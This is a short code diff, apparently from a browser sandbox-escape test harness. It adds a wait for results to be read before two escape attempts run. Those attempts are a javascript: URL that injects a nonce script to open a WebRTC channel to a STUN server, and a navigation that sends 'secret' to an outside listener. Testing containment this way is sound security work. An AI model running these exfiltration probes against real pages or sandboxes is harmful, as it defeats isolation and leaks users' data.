@@ -111,7 +111,9 @@ const tries = {
     told.push([name, words]);
   }
   parent.postMessage({kind: "done", run_id: "x", result: "ESCAPED"}, "*");
-  document.body.append(Object.assign(document.createElement("pre"), {id: "told", textContent: JSON.stringify(told)}));
+  const list = Object.assign(document.createElement("pre"), {id: "told", textContent: JSON.stringify(told)});
+  document.body.append(list);
+  while (!list.dataset.read) await new Promise((done) => setTimeout(done, 20));
   setTimeout(() => (location.href = `javascript:"<script nonce=${nonce}>new RTCPeerConnection({iceServers: [{urls: '${stun}'}]}).createDataChannel('x')<\\/script>"`), 300);
   setTimeout(() => (location.href = EAR + "secret"), 900);
 })();
